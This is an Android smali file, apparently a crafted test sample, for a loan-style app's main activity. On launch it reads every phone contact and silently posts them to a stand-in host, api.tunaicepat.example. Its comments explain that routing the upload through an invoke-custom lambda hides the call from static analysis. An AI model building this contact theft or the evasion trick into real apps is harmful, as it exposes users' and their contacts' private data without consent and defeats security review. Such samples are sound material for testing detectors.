.class public Lcom/example/tunaicepat/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# Shaped like javac output that was NOT desugared (dex 038, API 26+):
#   protected void onCreate(Bundle b) { super.onCreate(b); collect(); }
#   void collect() { ...query(Phone.CONTENT_URI)...; dump = ...; new Thread(this::upload).start(); }
#   void upload() { new OkHttpClient().newCall(new Request.Builder().url(URL).post(...).build()).execute(); }
# `this::upload` stays an invoke-custom call site whose bootstrap arguments carry a method
# handle to upload(): no call to upload() appears anywhere, and no lambda class exists.


# instance fields
.field private dump:Ljava/lang/String;


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


# virtual methods
.method collect()V
    .registers 9
    # locals v0..v7 ; p0 = this

    invoke-virtual {p0}, Lcom/example/tunaicepat/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v1
    sget-object v2, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    const/4 v6, 0x0
    invoke-virtual/range {v1 .. v6}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v1

    new-instance v7, Ljava/lang/StringBuilder;
    invoke-direct {v7}, Ljava/lang/StringBuilder;-><init>()V
    if-eqz v1, :hand_over

    :next_row
    invoke-interface {v1}, Landroid/database/Cursor;->moveToNext()Z
    move-result v0
    if-eqz v0, :close
    const/4 v0, 0x0
    invoke-interface {v1, v0}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    invoke-virtual {v7, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    goto :next_row

    :close
    invoke-interface {v1}, Landroid/database/Cursor;->close()V

    :hand_over
    invoke-virtual {v7}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    iput-object v0, p0, Lcom/example/tunaicepat/MainActivity;->dump:Ljava/lang/String;

    # new Thread(this::upload).start()
    invoke-custom {p0}, call_site_0("run", (Lcom/example/tunaicepat/MainActivity;)Ljava/lang/Runnable;, ()V, invoke-instance@Lcom/example/tunaicepat/MainActivity;->upload()V, ()V)@Ljava/lang/invoke/LambdaMetafactory;->metafactory(Ljava/lang/invoke/MethodHandles$Lookup;Ljava/lang/String;Ljava/lang/invoke/MethodType;Ljava/lang/invoke/MethodType;Ljava/lang/invoke/MethodHandle;Ljava/lang/invoke/MethodType;)Ljava/lang/invoke/CallSite;
    move-result-object v0
    new-instance v1, Ljava/lang/Thread;
    invoke-direct {v1, v0}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
    invoke-virtual {v1}, Ljava/lang/Thread;->start()V

    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 2

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Lcom/example/tunaicepat/MainActivity;->collect()V

    return-void
.end method

.method upload()V
    .registers 6
    # locals v0..v4 ; p0 = this

    new-instance v0, Lokhttp3/OkHttpClient;
    invoke-direct {v0}, Lokhttp3/OkHttpClient;-><init>()V

    iget-object v1, p0, Lcom/example/tunaicepat/MainActivity;->dump:Ljava/lang/String;
    const/4 v2, 0x0
    invoke-static {v2, v1}, Lokhttp3/RequestBody;->create(Lokhttp3/MediaType;Ljava/lang/String;)Lokhttp3/RequestBody;
    move-result-object v1

    new-instance v2, Lokhttp3/Request$Builder;
    invoke-direct {v2}, Lokhttp3/Request$Builder;-><init>()V
    const-string v3, "https://api.tunaicepat.example/v1/contacts"
    invoke-virtual {v2, v3}, Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
    move-result-object v2
    invoke-virtual {v2, v1}, Lokhttp3/Request$Builder;->post(Lokhttp3/RequestBody;)Lokhttp3/Request$Builder;
    move-result-object v2
    invoke-virtual {v2}, Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
    move-result-object v2

    invoke-virtual {v0, v2}, Lokhttp3/OkHttpClient;->newCall(Lokhttp3/Request;)Lokhttp3/Call;
    move-result-object v0
    invoke-interface {v0}, Lokhttp3/Call;->execute()Lokhttp3/Response;

    return-void
.end method
